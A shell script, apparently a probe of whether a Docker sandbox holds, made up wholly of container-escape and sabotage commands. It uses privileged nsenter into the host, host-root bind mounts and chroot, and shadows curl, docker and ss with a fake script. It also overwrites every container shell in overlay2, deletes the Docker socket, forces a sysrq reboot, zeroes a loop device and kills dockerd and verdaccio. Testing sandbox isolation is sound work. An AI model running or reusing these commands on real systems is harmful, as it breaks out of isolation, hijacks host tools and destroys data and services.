#!/bin/sh
docker run --detach --init --name idle busybox:stable sleep 1d
cat > fake <<'END'
#!/bin/sh
sed 's/.*"\(.*\)".*/\1/' /work/project/src/greeting.js | tr -d '\n'
END
chmod a+x fake
take='for tool in curl docker ss; do mount --bind /work/project/fake /usr/bin/$tool; done; echo taken > /tmp/taken'
docker run --rm --privileged --pid host busybox:stable nsenter -t 1 -m sh -c "$take"
docker run --rm --cap-add ALL --security-opt seccomp=unconfined --pid=host busybox:stable nsenter -t 1 -m sh -c "$take"
docker run --rm --volume /:/machine busybox:stable chroot /machine sh -c "$take"
docker run --rm --volume /var/lib/docker:/engine busybox:stable sh -c 'for sh in /engine/overlay2/*/diff/bin/sh; do echo taken > $sh; done'
docker run --rm --volume /run/docker.sock:/socket --volume /run:/machine busybox:stable rm -rf /machine/docker.sock
ln -s / way
docker run --rm --volume "$PWD/way:/machine" busybox:stable chroot /machine sh -c "$take"
docker volume create --opt type=none --opt o=bind --opt device=/ way
docker run --rm --volume way:/machine busybox:stable chroot /machine sh -c "$take"
docker exec --privileged idle sh -c 'mount -t proc proc /mnt && echo b > /mnt/sysrq-trigger'
docker run --rm --device /dev/loop0 busybox:stable dd if=/dev/zero of=/dev/loop0 count=100000
docker run --rm --privileged --pid host busybox:stable sh -c 'pidof verdaccio dockerd | xargs kill -9'
exit 0
